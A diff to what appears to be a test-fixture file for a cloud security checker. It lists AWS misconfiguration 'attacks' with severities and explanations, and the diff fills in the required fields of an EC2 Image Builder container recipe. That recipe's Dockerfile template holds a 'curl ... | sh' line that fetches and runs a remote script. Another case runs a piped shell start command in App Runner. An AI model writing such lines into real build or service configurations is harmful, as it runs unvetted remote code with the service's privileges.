@@ -116,7 +116,9 @@ ATTACKS = (
                 "startCommand": f"sh -c '{PIPED}'"}}}, **T}),),
         "major", "whoever takes the name over runs with the service's role (AWS App Runner, StartCommand)"),
     Attack("an image of containers is built from a script of the web", ESC, (aws("imagebuilder/ContainerRecipe", {
-        "name": "x", "version": "1.0.0", "containerType": "DOCKER", "dockerfileTemplateData":
+        "name": "x", "version": "1.0.0", "containerType": "DOCKER", "parentImage": IMAGE,
+        "components": [{"componentArn": _ours("imagebuilder", "component/base/1.0.0/1")}],
+        "targetRepository": {"service": "ECR", "repositoryName": "portal"}, "dockerfileTemplateData":
             "FROM {{{ imagebuilder:parentImage }}}\nRUN curl -s http://tools.core.internal/x | sh\n", **T}),),
         "critical", "what the page has on that day is in the image (EC2 Image Builder, dockerfileTemplateData)"),
     Attack("a machine starts from a stranger's disk", ESC, (aws("ebs/SnapshotImport", {
